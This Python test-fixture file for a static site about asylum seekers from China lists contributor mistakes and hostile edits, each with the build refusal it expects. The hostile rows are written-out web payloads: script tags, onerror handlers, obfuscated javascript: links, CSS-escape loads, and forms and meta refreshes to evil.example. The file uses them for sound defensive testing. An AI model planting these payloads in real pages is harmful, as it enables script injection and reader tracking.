"""The project's table of faults: what a change to the content can get wrong, and what the build must do.

Each row is one small change, as a contributor could make it (a page, its front
matter, mkdocs.yml's nav and text strings, a chart's texts, the data, a file
under docs/): mistakes (an unknown chart, a broken link, a broken data file) and
hostile contributions alike. tests/test_faults.py applies the rows one at a time
to one built copy of the project and puts the copy back after each. A row
expects one of two outcomes:

- refused: the build stops, its message holds `where` (file:line) and `says`,
  and site/ is left byte for byte as it was;
- inert: the build succeeds and `holds` (a check of the parsed, published pages)
  finds nothing of the change that could run, load, or send readers elsewhere.

Rows with a `guide` text are the table "What the checks say" in CONTRIBUTING.md,
which `python -m tests.faults` writes and tests/test_faults.py checks.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Callable

PAGE = "docs/methodology.md"
# page rows put their text here: the first line after the page's front matter
PAGE_LINE = (Path(__file__).resolve().parent.parent / PAGE).read_text(encoding="utf-8").split("\n")[1:].index("---") + 3
EVIL = "https://evil.example"


@dataclass(frozen=True)
class Edit:
    """One change to one file: `insert` a line (after line-1), `replace` a text, or `create` the file."""

    file: str
    insert: str | None = None
    at: int = PAGE_LINE
    old: str | None = None
    new: str | None = None
    create: str | None = None
    raw_data: bool = False  # a gzip file of data/raw/: its sha256 in the sidecar follows the change
    cell: tuple[int, str, str] | None = None  # (line, column, value) of a raw data file


@dataclass(frozen=True)
class Hostile:
    name: str
    edit: Edit
    where: str | None = None  # "file:line" the refusal names; None: the change must build, inert
    says: str = ""
    holds: Callable | None = None  # for inert rows: (site folder) -> list of what is wrong
    guide: str | None = None  # "You wrote" in CONTRIBUTING's table; the build says `where: says`


ROOT = Path(__file__).resolve().parent.parent
CHART = "charts/asylum_seekers_by_year.py"
CATALOGUE = "scripts/story/figures.yml"


def line_in(file: str, text: str) -> int:
    """The line of the project's file on which `text` starts: where a refusal must point."""
    content = (ROOT / file).read_text(encoding="utf-8")
    return content[: content.index(text.lstrip("\n"))].count("\n") + 1


def on_page(name: str, text: str, says: str, line: int = PAGE_LINE, guide: bool = False) -> Hostile:
    return Hostile(name, Edit(PAGE, insert=text), f"{PAGE}:{line}", says, guide=text if guide else None)


# --- mistakes in a page ---------------------------------------------------------------------------

PAGE_MISTAKES = [
    on_page(
        "unknown chart",
        "<!-- md:chart refugee_by_year -->",
        "unknown chart id 'refugee_by_year'. Did you mean 'recognition_rate_by_year'? Charts are the files in charts/",
        guide=True,
    ),
    on_page(
        "unknown figure",
        "Some {{ asylum_seeker_latest }} here.",
        "unknown figure '{{ asylum_seeker_latest }}'. Did you mean 'asylum_seekers_latest'? Every figure is listed, with what it is, in scripts/story/figures.yml",
        guide=True,
    ),
    on_page(
        "a typed number",
        "There were 118,476 of them in 2021.",
        "typed number '118,476'",
        guide=True,
    ),
    on_page(
        "a number in Chinese words",
        "约十万人申请庇护。",
        "typed number '十万'",
    ),
    on_page(
        "a quotation without its source",
        "They said <q>almost 800 percent</q>.",
        "<q> without a cite attribute naming its source",
        guide=True,
    ),
    on_page(
        "unknown source",
        "<!-- md:sources artcle -->",
        "unknown source 'artcle'. Did you mean 'article'? Sources are the entries of docs/sources.yml",
        guide=True,
    ),
    on_page(
        "a claimed number outside a quotation",
        "The article said {{ claimed_to_count }}.",
        "{{ claimed_to_count }} is a claimed number: it stands only in <q cite=…>",
        guide=True,
    ),
    on_page(
        "unknown shortcode",
        "<!-- md:graph asylum_seekers_by_year -->",
        "unknown shortcode 'md:graph'; the shortcodes are <!-- md:chart chart_id -->, <!-- md:table table_name -->, "
        "<!-- md:sources source_id … -->, <!-- md:explainer name -->, <!-- md:contact --> and <!-- md:report -->",
        guide=True,
    ),
    on_page(
        "unknown table",
        "<!-- md:table no_such_table -->",
        "unknown table 'no_such_table'. Tables are defined in the story's code (scripts/story)",
        guide=True,
    ),
    on_page(
        "link to a missing page",
        "See [the sources](source.md).",
        "link 'source.md': there is no file docs/source.md. Did you mean 'where.md'?",
        guide=True,
    ),
    on_page(
        "link to a folder", "See [methods](methodology/).", "link 'methodology/': there is no file docs/methodology"
    ),
    on_page(
        "link to a missing anchor",
        "See [caveats](index.md#caveat).",
        "link 'index.md#caveat': there is no anchor #caveat on docs/index.md (a heading's anchor is the end of its ¶ link)",
        guide=True,
    ),
    on_page(
        "link to a missing anchor here",
        "See [above](#no-such-heading).",
        "there is no anchor #no-such-heading on this page",
    ),
    on_page(
        "link to a missing download", "[Data](data/no_such_table.csv)", "there is no file docs/data/no_such_table.csv"
    ),
    on_page(
        "raw HTML link to a missing page",
        '<a href="../no-such-page/">more</a>',
        "the built site has no no-such-page/index.html",
    ),
]


# --- in a page's body -----------------------------------------------------------------------------

PAGE_BODY = [
    on_page("script tag", "<script>alert(1)</script>", "<script> is not allowed"),
    on_page(
        "script from a CDN",
        '<script src="https://cdn.example.com/lib.js"></script>',
        "<script> is not allowed: pages may not run scripts; a chart goes in with <!-- md:chart chart_id -->",
        guide=True,
    ),
    on_page("module script", '<script type="module">import "./x.js"</script>', "<script> is not allowed"),
    on_page(
        "inline event handler", '<span onmouseover="steal()">hover</span>', "onmouseover= on <span> is not allowed"
    ),
    on_page(
        "handler on a local image", '<img src="assets/x.png" onerror="steal()">', "onerror= on <img> is not allowed"
    ),
    on_page(
        "handler in an attribute list", '[Read more](index.md){ onclick="steal()" }', "onclick= on an attribute list"
    ),
    on_page(
        "javascript: Markdown link",
        "[Click](javascript:alert(1))",
        "a javascript: link is not allowed: it runs a script",
        guide=True,
    ),
    on_page(
        "javascript: HTML link",
        '<a href="JavaScript:alert(1)">Click</a>',
        "a javascript: URL (href= on <a>) is not allowed",
    ),
    on_page(
        "javascript: hidden by an entity", "[Click](java&#115;cript:alert(1))", "a javascript: link is not allowed"
    ),
    on_page(
        "javascript: link definition", "[x]: javascript:alert(1)\n\n[Click][x]", "a javascript: link is not allowed"
    ),
    on_page(
        "javascript: in SVG", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "a javascript: URL"
    ),
    on_page("data: link", "[Open](data:text/html,<script>alert(1)</script>)", "a data: link is not allowed"),
    on_page(
        "CDN image, Markdown",
        "![A chart](https://cdn.example.com/chart.png)",
        "an image from another host (cdn.example.com): https://cdn.example.com/chart.png: every reader's browser would contact it; put the file in docs/assets/ and use a relative path",
        guide=True,
    ),
    on_page(
        "CDN image, HTML",
        '<img src="//cdn.example.com/chart.png" alt="">',
        "<img> loads //cdn.example.com/chart.png from another host",
    ),
    on_page(
        "CDN image, reference",
        "![A chart][chart]\n\n[chart]: https://cdn.example.com/chart.png",
        "an image from another host",
    ),
    on_page(
        "CDN image in srcset", '<img src="a.png" srcset="https://cdn.example.com/a@2x.png 2x" alt="">', "with srcset="
    ),
    on_page(
        "image swapped by an attribute list",
        '![A chart](a.png){ src="https://cdn.example.com/a.png" }',
        "loads https://cdn.example.com/a.png",
    ),
    on_page(
        "CDN image inside a link",
        "[![A chart](https://cdn.example.com/c.png)](https://example.org/)",
        "an image from another host",
    ),
    on_page(
        "CDN image in image-set()",
        "<p style=\"background-image:image-set('https://cdn.example.com/a.png' 1x)\">x</p>",
        "the style= of <p> loads",
    ),
    on_page(
        "CSS escape in url()",
        f'<p style="background:u\\rl({EVIL}/x.png)">x</p>',
        f"the style= of <p> loads {EVIL}/x.png",
    ),
    on_page(
        "CSS hex escape in url()",
        f'<p style="background:\\75 rl({EVIL}/x.png)">x</p>',
        f"the style= of <p> loads {EVIL}/x.png",
    ),
    on_page(
        "iframe",
        '<iframe src="https://www.youtube.com/embed/xyz"></iframe>',
        "an <iframe>: pages embed nothing",
        guide=True,
    ),
    on_page("object", f'<object data="{EVIL}/x.swf"></object>', "an <object>"),
    on_page(
        "style sheet from another host",
        '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto">',
        "<link> loads https://fonts.googleapis.com",
    ),
    on_page(
        "style block",
        "<style>@import url(https://fonts.example.com/a.css);</style>",
        "a <style> block: the pages' Content-Security-Policy blocks it (styles go in docs/assets/stylesheets/site.css)",
        guide=True,
    ),
    on_page(
        "background from another host",
        '<p style="background:url(https://pixel.example.com/p.gif)">x</p>',
        "loads https://pixel.example.com/p.gif",
    ),
    on_page(
        "video from another host",
        '<video src="https://cdn.example.com/v.mp4" poster="https://cdn.example.com/v.jpg"></video>',
        "<video> loads",
    ),
    on_page("form to another host", f'<form action="{EVIL}/collect"><input name="q"></form>', "<form> loads"),
    on_page("ping on a link", f'<a href="https://example.org/" ping="{EVIL}/p">x</a>', "with ping="),
    on_page("meta refresh", f'<meta http-equiv="refresh" content="0; url={EVIL}/">', "a <meta> element"),
    on_page("referrer policy of its own", '<meta name="referrer" content="unsafe-url">', "a <meta> element"),
    on_page("base element", '<base href="https://example.com/">', "a <base> element"),
    on_page(
        "noscript that hides an image",
        f'<noscript><p title="</noscript><img src={EVIL}/x.png>"></p></noscript>',
        "a <noscript>: browsers that run scripts read what is inside it differently",
        guide=True,
    ),
    on_page("template", f'<template><img src="{EVIL}/x.png"></template>', "a <template>"),
    # What the Markdown check's parser reads otherwise than a browser: the finished-HTML pass finds them.
    on_page(
        "HTML5 comment that is no comment",
        f'<!--> <img src="{EVIL}/x.png"> -->',
        f"<img> loads {EVIL}/x.png from another host (evil.example) with src=: every reader's browser would contact it",
        guide=True,
    ),
    on_page(
        "meta refresh out of a textarea",
        f"<textarea><p title=\"</textarea><meta http-equiv=refresh content='0;url={EVIL}/'>\"></p></textarea>",
        'a <meta http-equiv="refresh">',
    ),
    on_page(
        "image hidden from Markdown in backticks",
        f'<div>`<img src="{EVIL}/x.png" alt="">`</div>',
        f"<img> loads {EVIL}/x.png",
    ),
    # Shortcodes name things; a path would publish any file of the build machine.
    on_page(
        "table shortcode with an absolute path",
        "<!-- md:table /etc/hostname -->",
        "'/etc/hostname' is not a table name: a shortcode names a table (letters, digits and _), never a path.",
        guide=True,
    ),
    on_page("table shortcode that climbs out", "<!-- md:table ../../../../LICENSE -->", "is not a table name"),
    on_page("chart shortcode with a path", "<!-- md:chart ../charts/_kit -->", "unknown chart id"),
]


# --- in front matter, mkdocs.yml and chart texts ------------------------------------------------


def front_matter(key: str, value: str) -> Edit:
    return Edit("docs/about.md", old=f"\n{key}: ", new=f"\n{key}: {value}\n{key}_was: ")


CONFIG_AND_TEXTS = [
    Hostile(
        "script in a page title",
        front_matter("title", "'About</title><script>alert(document.domain)</script><title>'"),
        f"docs/about.md:{line_in('docs/about.md', 'title: ')}",
        "front matter title holds markup (</title…): this text is printed as plain text, so it may not contain tags (a '<' followed by a space or a digit is fine)",
        guide='title: "About</title><script>…" in front matter',
    ),
    Hostile(
        "meta refresh in a description",
        front_matter("description", f'\'x"><meta http-equiv="refresh" content="0;url={EVIL}/">\''),
        f"docs/about.md:{line_in('docs/about.md', 'description: ')}",
        "front matter description holds markup",
    ),
    Hostile(
        "markup in another front-matter key",
        Edit("docs/about.md", old="\ndescription: ", new="\nauthor: '<img src=x onerror=alert(1)>'\ndescription: "),
        f"docs/about.md:{line_in('docs/about.md', 'description: ')}",
        "front matter author holds markup",
    ),
    Hostile(
        "script in a nav title",
        Edit(
            "mkdocs.yml",
            old="  - About and corrections: about.md",
            new='  - "About <script>alert(1)</script>": about.md',
        ),
        f"mkdocs.yml:{line_in('mkdocs.yml', '  - About and corrections: about.md')}",
        "the nav title 'About <script>alert(1)</script>' holds markup (<script…): this text is printed as plain text, so it may not contain tags",
        guide='- "About <script>…</script>": about.md in the nav',
    ),
    Hostile(
        "markup in site_name",
        Edit(
            "mkdocs.yml",
            old="site_name: Seeking asylum from China",
            new="site_name: 'Seeking asylum<script>alert(1)</script>'",
        ),
        f"mkdocs.yml:{line_in('mkdocs.yml', 'site_name:')}",
        "site_name holds markup",
    ),
    Hostile(
        "markup in extra",
        Edit("mkdocs.yml", old="\nhooks:", new="\nextra:\n  note: '<img src=x onerror=alert(1)>'\nhooks:"),
        f"mkdocs.yml:{line_in('mkdocs.yml', 'hooks:') + 1}",
        "extra.note holds markup",
    ),
    Hostile(
        "image in the copyright",
        Edit("mkdocs.yml", old="  Text and charts:", new=f'  <img src="{EVIL}/x.png"> Text and charts:'),
        f"mkdocs.yml:{line_in('mkdocs.yml', 'copyright:')}",
        "copyright may hold only the tags a, br, em, span, strong; it holds <img>",
        guide="an <img> in copyright (mkdocs.yml)",
    ),
    Hostile(
        "javascript: link in the copyright",
        Edit("mkdocs.yml", old="  Text and charts:", new='  <a href="javascript:alert(1)">x</a> Text and charts:'),
        f"mkdocs.yml:{line_in('mkdocs.yml', 'copyright:')}",
        "a javascript: URL",
    ),
    Hostile(
        "a plugin that renders pages as templates",
        Edit("mkdocs.yml", old="plugins:\n  - search", new="plugins:\n  - search\n  - macros"),
        f"mkdocs.yml:{line_in('mkdocs.yml', 'plugins:') + 2}",
        "the plugin 'macros' is not one the build runs (search); plugins are code (some render pages as templates that can read any file): a maintainer adds one to ALLOWED_PLUGINS after review",
        guide="- macros under plugins: in mkdocs.yml",
    ),
    Hostile(
        "a hook of the contributor's",
        Edit("mkdocs.yml", old="hooks:\n", new="hooks:\n  - docs/evil.py\n"),
        f"mkdocs.yml:{line_in('mkdocs.yml', 'hooks:') + 1}",
        "the hook docs/evil.py is not one the build runs",
    ),
    Hostile(
        "a source's link that is not https",
        Edit("docs/sources.yml", old="  link: https://theepochtimes.com/", new="  link: javascript:alert(1)//"),
        f"docs/sources.yml:{line_in('docs/sources.yml', '  link: https://theepochtimes.com/')}",
        "source 'article' link must be an https:// address",
        guide="a source in docs/sources.yml with the link javascript:alert(1)",
    ),
    Hostile(
        "a source a reader cannot find",
        Edit(
            "docs/sources.yml",
            old="  link: https://www.rfa.org/english/news/vietnam/dong-03222023163434.html\n",
            new="",
        ),
        f"docs/sources.yml:{line_in('docs/sources.yml', 'rfa-2023:')}",
        "source 'rfa-2023' has no link (or a via: where it can be read)",
        guide="a source in docs/sources.yml without a link",
    ),
    Hostile(
        "a typed number in a fact-check record",
        Edit(
            "docs/fact-check.claims.yml",
            old="    why: The year and the number both agree with the data.",
            new="    why: The year and the number both agree with the data, within 2%.",
        ),
        f"docs/fact-check.claims.yml:{line_in('docs/fact-check.claims.yml', '    why: The year and the number both agree')}",
        "why: typed number '2%.'",
        guide="why: … within 2%. in a record of docs/fact-check.claims.yml",
    ),
    Hostile(
        "a typed number in a chart text",
        Edit(CHART, old='SUBTITLE = "', new='SUBTITLE = "In 2021, '),
        f"{CHART}:{line_in(CHART, 'SUBTITLE = ')}",
        "SUBTITLE holds the typed number '2021,'; write a {figure} from the data instead",
    ),
    Hostile(
        "markup in a chart title",
        Edit(
            "charts/asylum_seekers_by_year.py",
            old='TITLE = "Asylum-seekers',
            new='TITLE = "<img src=x onerror=alert(1)>Asylum-seekers',
        ),
        f"{CHART}:{line_in(CHART, 'TITLE = ')}",
        "TITLE holds markup",
        guide='TITLE = "<img src=x onerror=…>…" in a chart file',
    ),
    Hostile(
        "markup in a chart description",
        Edit(
            "charts/asylum_seekers_by_year.py",
            old='"Line chart of asylum-seekers',
            new='"<script>alert(1)</script>Line chart of asylum-seekers',
        ),
        f"{CHART}:{line_in(CHART, 'Line chart of asylum-seekers')}",
        "DESCRIPTION holds markup",
    ),
    Hostile(
        "a script served as it is",
        Edit("docs/assets/javascripts/extra.js", create="alert(document.domain)\n"),
        "docs/assets/javascripts/extra.js",
        "a file served exactly as it is (.js) can run code or load from other sites in readers' browsers; such files are code: a maintainer adds them to SERVED_AS_IS in scripts/generator/contributed_text.py after review",
        guide="a new file docs/assets/javascripts/extra.js (or .html, .svg, .css)",
    ),
    Hostile(
        "an HTML page served as it is",
        Edit("docs/welcome.html", create="<script>alert(1)</script>\n"),
        "docs/welcome.html",
        "a file served exactly as it is (.html)",
    ),
    Hostile(
        "an SVG served as it is",
        Edit("docs/assets/logo.svg", create='<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'),
        "docs/assets/logo.svg",
        "a file served exactly as it is (.svg)",
    ),
    Hostile(
        "a figure catalogued as the wrong kind",
        Edit(CATALOGUE, old="asylum_seekers_latest: {kind: count,", new="asylum_seekers_latest: {kind: country,"),
        f"{CATALOGUE}:{line_in(CATALOGUE, 'asylum_seekers_latest:')}",
        '\'asylum_seekers_latest\': a country figure\'s value is country("ISO", "name"), not',
    ),
    Hostile(
        "a chart's note pinned to a year it does not draw",
        Edit(
            CHART,
            old='ANNOTATIONS = [{"mark": {"year": "asylum_seekers_peak_year"}',
            new='ANNOTATIONS = [{"mark": {"year": 1990}',
        ),
        CHART,
        "is pinned outside the years drawn (2000–",
    ),
    Hostile(
        "a break in the register without its explanation",
        Edit("data/breaks.yml", old="  explanation: >-", new="  reason: >-"),
        "data/breaks.yml",
        "reason is not a field of a break",
    ),
    Hostile(
        "a break in the register that says neither its source nor that its cause is not documented",
        Edit("data/breaks.yml", old="in the release.\n  cause: not documented\n", new="in the release.\n"),
        "data/breaks.yml",
        "give either source",
    ),
    Hostile(
        "a break the data shows that the register does not cover",
        Edit("data/breaks.yml", old="  years: [2009, 2010]", new="  years: 2009"),
        "data/breaks.yml",
        "ZAF asylum_seekers 2009–2010 (the origin's series): years with no row inside the series",
    ),
]


# --- in the data --------------------------------------------------------------------------------

COUNTRIES = "data/raw/countries.csv.gz"
US_ROW = "USA,USA,United States of America,"


def country_name(name: str) -> Edit:
    field = '"' + name.replace('"', '""') + '"' if any(c in name for c in '",\n') else name
    return Edit(COUNTRIES, old=US_ROW, new=f"USA,USA,{field},", raw_data=True)


def line_of_us_row() -> int:
    import gzip

    text = gzip.decompress((ROOT / COUNTRIES).read_bytes()).decode("utf-8")
    return text[: text.index(US_ROW)].count("\n") + 1


DATA = [
    Hostile(
        "a count that is not a number",
        Edit("data/raw/population.csv.gz", cell=(10, "refugees", "lots"), raw_data=True),
        "data/raw/population.csv.gz",
        "column refugees must hold whole, non-negative numbers, never empty; 1 line fails, first:\n  line 10: 'lots'",
        guide="lots in the refugees column of data/raw/population.csv.gz",
    ),
    Hostile(
        "markup in a country name",
        country_name("United States<script>alert(1)</script>"),
        COUNTRIES,
        f"column name holds markup (a tag); names are printed as plain text; 1 line fails, first:\n"
        f"  line {line_of_us_row()}: ",
        guide="a country name with a tag in data/raw/countries.csv.gz",
    ),
]


# --- changes that must build, and stay inert ------------------------------------------------------


def attribute_holders(site, attribute: str) -> list[str]:
    """Every element of every published page that carries `attribute`, as page: tag."""
    from selectolax.lexbor import LexborHTMLParser

    found = []
    for path in sorted(site.rglob("*.html")):
        tree = LexborHTMLParser(path.read_text(encoding="utf-8"))
        found += [f"{path.relative_to(site)}: <{node.tag}>" for node in tree.css(f"[{attribute}]")]
    return found


def parsed(site, page: str):
    from selectolax.lexbor import LexborHTMLParser

    return LexborHTMLParser((site / page).read_text(encoding="utf-8"))


def description_stays_one_attribute(site) -> list[str]:
    tree = parsed(site, "about/index.html")
    metas = [node.attributes for node in tree.css("meta[http-equiv]")]
    wrong = [f"a meta http-equiv {meta}" for meta in metas if meta.get("http-equiv") != "Content-Security-Policy"]
    description = tree.css_first('meta[name="description"]').attributes["content"]
    if description != QUOTED:
        wrong.append(f"the description reads {description!r}")
    return wrong


def title_shows_as_written(site) -> list[str]:
    tree = parsed(site, "about/index.html")
    wrong = []
    if tree.css_first("title").text() != f"{AMPERSANDS} - Seeking asylum from China":
        wrong.append(f"<title> reads {tree.css_first('title').text()!r}")
    return wrong


def outbound_links_tell_nothing(site) -> list[str]:
    tree = parsed(site, "methodology/index.html")
    link = tree.css_first('a[href="https://www.unhcr.org/en/about-unhcr"]')
    rel = set((link.attributes.get("rel") or "").split()) if link else set()
    return [] if {"noopener", "noreferrer"} <= rel else [f"the outbound link has rel {rel or 'none'}"]


# Without digits, which the number rule would refuse before the escaping is tested: what these
# rows test is that the quotes cannot close the attribute and add one, whatever its value.
QUOTED = f'x" http-equiv="refresh" content=".;url={EVIL}/'
AMPERSANDS = 'Tom & Jerry\'s "book" < ours'


def allowed_content_is_shown(site) -> list[str]:
    tree = parsed(site, "methodology/index.html")
    text = (site / "methodology" / "index.html").read_text(encoding="utf-8")
    wrong = []
    if not tree.css_first('a[href="https://www.unhcr.org/refugee-statistics/"]'):
        wrong.append("the link to UNHCR is gone")
    if "&lt;script&gt;alert(1)&lt;/script&gt;" not in text:
        wrong.append("the code sample is not shown as text")
    from scripts.generator.finished_html import sha256, theme_scripts

    inline = [
        node
        for node in tree.css("script")
        if not node.attributes.get("src")
        and node.attributes.get("type") != "application/json"
        and sha256(node.text(deep=True)) not in theme_scripts()  # the theme's own, allowed by hash
    ]
    return wrong + [f"an inline script: {node.html[:60]}" for node in inline]


def allowed_page_text() -> str:
    from tests.unit.test_safety import ALLOWED

    return (
        ALLOWED.replace("# Allowed\n", "")
        .replace("assets/chart.png", "assets/images/favicon.png")
        .replace('<img src="../assets/a.png" alt="">', '<img src="../assets/images/favicon.png" alt="">')
    )


INERT = [
    Hostile(
        "allowed content: links out, code samples, own images",
        Edit(PAGE, insert=allowed_page_text()),
        holds=allowed_content_is_shown,
    ),
    Hostile(
        "quotes in a description close no attribute",
        front_matter("description", "'" + QUOTED.replace("'", "''") + "'"),
        holds=description_stays_one_attribute,
    ),
    Hostile(
        "ampersand and quotes in a title",
        front_matter("title", "'" + AMPERSANDS.replace("'", "''") + "'"),
        holds=title_shows_as_written,
    ),
    Hostile(
        "a link to another site",
        Edit(PAGE, insert="Read [UNHCR's own page](https://www.unhcr.org/en/about-unhcr)."),
        holds=outbound_links_tell_nothing,
    ),
]

TABLE = PAGE_MISTAKES + PAGE_BODY + CONFIG_AND_TEXTS + DATA + INERT


# --- CONTRIBUTING.md's table "What the checks say" --------------------------------------------------

GUIDE = ROOT / "CONTRIBUTING.md"
GUIDE_START = "<!-- the table of faults: written by `python -m tests.faults` from tests/faults.py -->"
GUIDE_END = "<!-- end of the table of faults -->"


def guide_table() -> str:
    """The rows marked for the guide, as a Markdown table: what a contributor wrote, what the build says."""

    def cell(text: str) -> str:
        text = text.replace("|", "\\|").replace("\n", " ")
        return f"`{text}`" if "`" not in text else text

    lines = ["| You wrote | The build says |", "|---|---|"]
    for row in TABLE:
        if row.guide:
            says = row.says.split("\n")[0]
            lines.append(f"| {cell(row.guide)} | {cell(f'{row.where}: {says}')} |")
    return "\n".join(lines)


def guide_with_table(text: str) -> str:
    start, end = text.index(GUIDE_START) + len(GUIDE_START), text.index(GUIDE_END)
    return text[:start] + "\n" + guide_table() + "\n" + text[end:]


if __name__ == "__main__":
    GUIDE.write_text(guide_with_table(GUIDE.read_text(encoding="utf-8")), encoding="utf-8")
    print(f"wrote the table of faults into {GUIDE.name}")
